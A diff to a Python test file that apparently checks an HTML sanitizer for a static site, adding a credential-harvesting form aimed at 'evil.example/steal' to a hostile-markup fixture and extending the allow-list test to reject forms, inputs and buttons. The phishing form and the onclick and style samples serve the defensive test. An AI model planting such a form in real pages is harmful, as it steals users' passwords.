@@ -139,6 +139,8 @@ HOSTILE_EXPLAINER = """\
 
     <div onclick="alert(4)"><style>body{display:none}</style><mark>harmless</mark> <abbr title="U.S. Northern Command">NORTHCOM</abbr></div>
 
+    <form action="https://evil.example/steal" method="post"><input name="password" placeholder="Your password"><button>Sign in</button></form>
+
     An outside [link](https://example.org/story) and an inside [[northcom]] [@tweet].
     """
 
@@ -153,7 +155,7 @@ def hostile_site(tmp_path_factory) -> Path:
 def test_raw_html_in_an_explainer_passes_an_allow_list(hostile_site):
     html = (hostile_site / "explainers/hostile/index.html").read_text()
     article = BeautifulSoup(html, "html.parser").select_one("article")
-    assert article.select("script, iframe, style") == []
+    assert article.select("script, iframe, style, input, button, form[action], form[method]") == []
     assert not any(attr.startswith("on") for tag in article.find_all(True) for attr in tag.attrs)
     assert not any("javascript:" in (a.get("href") or "") for a in article.select("a"))
     assert article.select_one("mark").get_text() == "harmless"
